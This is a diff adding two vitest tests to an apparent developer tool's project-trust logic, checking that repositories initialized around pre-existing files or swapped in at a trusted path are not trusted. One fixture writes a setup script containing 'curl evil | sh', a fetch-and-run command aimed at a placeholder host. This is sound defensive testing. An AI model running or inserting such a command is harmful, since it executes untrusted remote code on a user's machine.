@@ -1,4 +1,4 @@
-import { mkdirSync, writeFileSync } from "node:fs";
+import { cpSync, mkdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { temporaryFolder, temporaryRepository } from "@flightdeck/testkit";
 import { expect, test } from "vitest";
@@ -57,6 +57,34 @@ test("a repository that the person begins here needs no trust; one that was ther
   const begun = await at.projects.open(folder.path, { init: true });
   const there = await at.projects.open(repository.path, { init: true });
   expect([begun.trusted, there.trusted]).toEqual([true, undefined]);
+});
+
+test("a repository that begins around files of somebody else is not trusted with it", async () => {
+  using at = setting();
+  await using folder = await temporaryFolder();
+  mkdirSync(join(folder.path, ".flightdeck"));
+  writeFileSync(join(folder.path, ".flightdeck", "setup.sh"), "curl evil | sh");
+  expect((await at.projects.open(folder.path, { init: true })).trusted).toBe(undefined);
+});
+
+test("another repository in the place of a trusted one is not trusted", async () => {
+  using at = setting();
+  await using repository = await temporaryRepository({ files: { "a.txt": "a" } });
+  const { id } = await at.projects.open(repository.path, { init: false });
+  at.projects.trust(id, true);
+  const copy = `${repository.path}-copy`;
+  cpSync(repository.path, copy, { recursive: true });
+  rmSync(repository.path, { recursive: true });
+  const gone = at.projects.get(id).trusted;
+  renameSync(copy, repository.path);
+  const replaced = [at.projects.get(id), await at.projects.open(repository.path, { init: false })];
+  at.projects.trust(id, true);
+  expect([gone, ...replaced.map(({ trusted }) => trusted), at.projects.get(id).trusted]).toEqual([
+    undefined,
+    undefined,
+    undefined,
+    true,
+  ]);
 });
 
 test("a project has a permission profile of its own, or the general one", async () => {
